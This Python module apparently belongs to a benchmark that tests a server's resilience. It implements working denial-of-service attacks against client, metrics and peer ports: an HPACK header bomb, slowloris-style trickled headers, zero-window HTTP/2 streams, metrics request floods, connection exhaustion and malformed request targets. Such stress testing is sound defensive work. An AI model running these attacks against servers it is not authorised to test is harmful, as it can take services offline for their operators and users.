"""Attacks by plain HTTP on the client, metrics and peer ports: targets, headers, answers."""

import contextlib
import selectors
import socket
import time
from collections import Counter

from bench.abuse.bystander import FAILED
from bench.abuse.target import Attack, Seen, Target
from bench.abuse.wire import (
    END_HEADERS,
    END_STREAM,
    HEADERS,
    Wire,
    connect,
    exchange,
    frame,
    head,
    is_complete,
    request,
    status_of,
)

MALFORMED = (
    b"//[",
    b"//]",
    b"//[::1",
    b"http://[",
    b"http://[::1/health",
    b"//\xe9:2380",
    b"/%zz",
    b"/health?exclude=%zz",
    b"/health?%",
    b"?",
    b"*",
    b"/\xff\xfe",
    b"/metrics/../[",
    b"/version;[",
    b"/" + b"[" * 8000,
)
TRICKLE = b"GET /health HTTP/1.1\r\nHost: a\r\nX: " + b"x" * 1000
ANSWER_SECONDS_MAX = 2.0
MEMBER_CONNECTIONS = 3
"""A member needs one connection for each of its streams, and one for its other requests."""


def in_words(counts: Counter[str]) -> str:
    """Format the most common counts as text."""
    return ", ".join(f"{count:,} x {name}" for name, count in counts.most_common(4)) or "nothing"


def connections(address: str, count: int, deadline: float) -> list[socket.socket]:
    """Return `count` connections, or as many as possible."""
    made: list[socket.socket] = []
    with contextlib.suppress(OSError):
        while len(made) < count and time.monotonic() < deadline:
            made.append(connect(address, 1.0))
    return made


def malformed_targets(target: Target, count: int, deadline: float) -> Seen:
    """Request invalid targets, at every port, by HTTP/1.1 and by HTTP/2."""
    seen: Counter[str] = Counter()
    for each in MALFORMED[:count]:
        for address in (target.client, target.metrics, target.peer):
            seen[status_of(exchange(address, request(each), ANSWER_SECONDS_MAX))] += 1
        with contextlib.suppress(OSError), Wire(target.client) as wire:
            end = min(deadline, time.monotonic() + ANSWER_SECONDS_MAX)
            stream = wire.call(head(each, method=b"GET"), b"", end)
            seen[wire.answered(stream, end)] += 1
    return Seen(in_words(seen))


def hpack_bomb(target: Target, count: int, deadline: float) -> Seen:
    """Request `/` with headers that refer to one large table entry 180 times."""
    value = b"v" * 3900
    start = b"\x82\x86\x84" + b"\x01\x01a"  # GET, http, /, and an authority
    sent = 0
    with Wire(target.client) as wire:
        block = start + b"\x40" + b"\x01x" + b"\x7f\xbd\x1d" + value
        for number in range(count):
            stream = wire.next_stream()
            sent += wire.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block), deadline)
            # The newest entry of the dynamic table has index 62.
            block = start + b"\xbe" * 180
            if wire.is_closed:
                return Seen(
                    f"closed after {number:,} requests, {sent:,} bytes; {in_words(wire.statuses)}"
                )
        wire.until(lambda: len(wire.ended) >= count, deadline)
        return Seen(f"{sent:,} bytes; {in_words(wire.statuses)}")


def metrics_burst(target: Target, count: int, deadline: float) -> Seen:
    """Open `count` connections, and then request the metrics on all of them at once."""
    return _at_once(target.client, count, deadline, rounds=1)


def metrics_clients(target: Target, count: int, deadline: float) -> Seen:
    """Request the metrics from 32 clients, without pauses, for `count` seconds."""
    end = min(deadline, time.monotonic() + count)
    return _at_once(target.client, 32, end, rounds=1_000_000)


def _at_once(address: str, count: int, deadline: float, rounds: int) -> Seen:
    """Send a request on each connection, and the next one after each complete answer."""
    asked = b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"
    done, received = 0, 0
    with contextlib.ExitStack() as stack, selectors.DefaultSelector() as selector:
        made = connections(address, count, deadline)
        left: dict[socket.socket, int] = {}
        by_descriptor = {each.fileno(): each for each in made}
        for each in made:
            stack.callback(each.close)
            each.setblocking(False)
            selector.register(each, selectors.EVENT_READ)
            left[each] = rounds
        ends: dict[socket.socket, bytes] = {}
        for each in made:
            with contextlib.suppress(OSError):
                each.send(asked)
        while left and time.monotonic() < deadline:
            for key, _ in selector.select(max(0.0, min(0.5, deadline - time.monotonic()))):
                each = by_descriptor[key.fd]
                try:
                    piece = each.recv(1 << 18)
                except OSError:
                    piece = b""
                received += len(piece)
                ends[each] = (ends.get(each, b"") + piece)[-200_000:]
                if is_complete(ends[each]):
                    done += 1
                    ends[each] = b""
                    left[each] -= 1
                    if left[each]:
                        with contextlib.suppress(OSError):
                            each.send(asked)
                if not piece or not left[each]:
                    selector.unregister(each)
                    del left[each]
    return Seen(f"{done:,} answers, {received / 1e6:.0f} MB, {len(made):,} connections")


def unread_answers(target: Target, count: int, deadline: float) -> Seen:
    """Request the metrics on many HTTP/2 streams, with a window that admits no data."""
    with Wire(target.client, window=0) as wire:
        block = head(b"/metrics", method=b"GET")
        sent = 0
        for _ in range(count):
            stream = wire.next_stream()
            asked = frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            sent += wire.send(asked, deadline) > 0
            if wire.is_closed:
                break
        # Held answers show their cost.
        wire.until(lambda: wire.is_closed, min(deadline, time.monotonic() + target.hold_seconds))
        return Seen(
            f"{sent:,} sent{', closed' if wire.is_closed else ''}; {in_words(wire.statuses)}"
        )


def unread_connections(target: Target, count: int, deadline: float) -> Seen:
    """Request the metrics 20 times on each of many connections, and read nothing."""
    made = connections(target.client, count, deadline)
    asked = b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n" * 20
    try:
        for each in made:
            each.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            with contextlib.suppress(OSError):
                each.sendall(asked)
        time.sleep(max(0.0, min(target.hold_seconds, deadline - time.monotonic())))
    finally:
        for each in made:
            each.close()
    return Seen(f"{len(made):,} connections")


def slow_heads(target: Target, count: int, deadline: float) -> Seen:
    """Send request headers byte by byte, at all three ports, and never finish one."""
    made: list[socket.socket] = []
    addresses = (target.client, target.metrics, target.peer)
    for address in addresses:
        made += connections(address, count // len(addresses), deadline)
    end = min(deadline, time.monotonic() + target.hold_seconds)
    closed = 0
    try:
        for at in range(len(TRICKLE)):
            for each in made:
                try:
                    each.send(TRICKLE[at : at + 1])
                except OSError:
                    closed += 1
            if time.monotonic() > end:
                break
        began = time.monotonic()
        status = status_of(exchange(target.peer, request(b"/version")))
        waited = time.monotonic() - began if status == "200" else FAILED
    finally:
        for each in made:
            each.close()
    return Seen(f"{len(made):,} connections, /version of the peer port: {status}", waited)


def idle_connections(target: Target, count: int, deadline: float) -> Seen:
    """Hold as many idle client connections as the server allows, while a member connects."""
    with contextlib.ExitStack() as stack:
        made = connections(target.client, count, deadline)
        for each in made:
            stack.callback(each.close)
        time.sleep(min(0.5, target.hold_seconds))  # time for the server to accept them
        waited, answered = 0.0, 0
        while answered < MEMBER_CONNECTIONS and time.monotonic() < deadline:
            began = time.monotonic()
            with contextlib.suppress(OSError):
                member = connect(target.peer, deadline - began)
                stack.callback(member.close)
                member.sendall(b"GET /version HTTP/1.1\r\nHost: a\r\n\r\n")
                answered += status_of(member.recv(1000)) == "200"
            waited = max(waited, time.monotonic() - began)
    text = f"{len(made):,} connections; {answered} of {MEMBER_CONNECTIONS} of a member are answered"
    return Seen(text, waited if answered == MEMBER_CONNECTIONS else FAILED)


ATTACKS = (
    Attack("malformed targets", malformed_targets, len(MALFORMED), len(MALFORMED), 60.0),
    Attack("HPACK bomb", hpack_bomb, 6_000, 50),
    Attack("metrics, one burst", metrics_burst, 2_000, 20),
    Attack("metrics, 32 clients", metrics_clients, 5, 1),
    Attack("HTTP/2 answers unread", unread_answers, 10_000, 100),
    Attack("HTTP/1.1 answers unread", unread_connections, 500, 10),
    Attack("slow heads", slow_heads, 3_000, 30),
    Attack("idle connections", idle_connections, 2_000, 600, 20.0, descriptors=512),
)
